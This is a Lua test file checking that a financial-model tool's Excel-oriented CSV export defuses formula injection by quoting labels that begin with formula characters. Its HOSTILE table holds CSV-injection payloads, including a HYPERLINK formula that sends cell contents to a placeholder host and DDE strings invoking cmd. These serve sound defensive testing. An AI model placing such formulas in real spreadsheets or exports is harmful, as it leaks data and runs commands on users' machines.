-- test_attack_excel_csv.lua -- CSV injection: an export for Excel
-- (m:export(path, {excel = true}), kessan export --excel) writes a label
-- that Excel would read as a formula (=, +, -, @, tab or CR first) with
-- a single quote before it, every other label as it is; the file still
-- imports into the model unchanged; a scenario whose name would read as
-- a formula is refused for Excel (a quote would make it another name).
package.path = "tests/lua/?.lua;" .. package.path
local check = require "check"
local kessan = require "kessan"

local HOSTILE = {
  ["rev.a"] = {'=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0"},
  ["rev.b"] = {"-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"},
  ["rev.total"] = {"\t=1+1", "\r=1+1"},
  ["cost.total"] = {"Costs = all", "'=already quoted"},
}

-- tiny's chart with the labels above
local dir = check.tmpname(".model")
assert(os.execute("cp -r tests/data/tiny " .. check.quote(dir)))
local items = {}
for line in io.lines("tests/data/tiny/items.csv") do
  local id, rest = line:match("^([^,]*),[^,]*,[^,]*,(.*)$")
  local labels = HOSTILE[id]
  if labels then
    local function q(s) return '"' .. s:gsub('"', '""') .. '"' end
    line = id .. "," .. q(labels[1]) .. "," .. q(labels[2]) .. "," .. rest
  end
  items[#items + 1] = line
end
check.write(dir .. "/items.csv", table.concat(items, "\n") .. "\n")
local m = assert(kessan.open(dir))
check.eq(m:item("rev.a").label, HOSTILE["rev.a"][1], "the label read as given")

-- a small CSV reader (quoted fields, CRLF)
local function parse_csv(text)
  local rows, row, field, i, quoted = {}, {}, {}, 1, false
  while i <= #text do
    local c = text:sub(i, i)
    if quoted then
      if c == '"' and text:sub(i + 1, i + 1) == '"' then field[#field + 1] = '"'; i = i + 1
      elseif c == '"' then quoted = false
      else field[#field + 1] = c end
    elseif c == '"' then quoted = true
    elseif c == "," then row[#row + 1] = table.concat(field); field = {}
    elseif c == "\r" and text:sub(i + 1, i + 1) == "\n" then
      row[#row + 1] = table.concat(field); rows[#rows + 1] = row
      row, field = {}, {}; i = i + 1
    else field[#field + 1] = c end
    i = i + 1
  end
  return rows
end

local function expect_neutral(path, what)
  local bytes = assert(check.read(path))
  check.eq(bytes:sub(1, 3), "\239\187\191", what .. ": byte order mark")
  local rows = parse_csv(bytes:sub(4))
  check.eq(table.concat(rows[1], ","), "item,period,value,label,label_ja", what)
  local seen = 0
  for r = 2, #rows do
    local row = rows[r]
    local labels = HOSTILE[row[1]]
    for k = 1, 2 do
      local text = row[3 + k]
      assert(not text:match("^[=+%-@\t\r]"), what .. ": raw formula " .. text)
      if labels then
        local given = labels[k]
        local want = given:match("^[=+%-@\t\r]") and "'" .. given or given
        check.eq(text, want, what .. ": label of " .. row[1])
        seen = seen + 1
      end
    end
  end
  assert(seen > 8, what .. ": hostile labels written")
end

local path = check.tmpname(".csv")
assert(m:export(path, {excel = true}))
expect_neutral(path, "m:export excel")
-- import reads the ids and values back: the model as it was
local before = m:get("rev.a", "3Q02")
assert(m:import(path))
check.eq(m:get("rev.a", "3Q02"), before, "imported back")
local again = check.tmpname(".csv")
assert(m:export(again, {excel = true}))
check.eq(check.read(again), check.read(path), "export after import")

-- the command line
local program = check.program()
local code, out, err = check.run(program, "export " .. check.quote(dir) .. " --excel")
check.eq(code, 0, "kessan export --excel: " .. err)
check.write(path, out)
expect_neutral(path, "kessan export --excel")

-- without excel, labels are no column: nothing changes
assert(m:export(path))
assert(not check.read(path):find("'", 1, true), "plain export has no quote")

-- scenarios: a name that reads as a formula is refused for Excel only
local s = m:scenario("=1+1")
s:set("rev.a", "3Q02", 1)
s:save()
local plain = check.tmpname(".csv")
assert(m:export(plain, {scenario = true}))
local ok, message = m:export(path, {scenario = true, excel = true})
check.eq(ok, nil, "scenario =1+1 exported for Excel")
assert(tostring(message):find("scenario '=1+1'", 1, true), tostring(message))
check.cleanup()
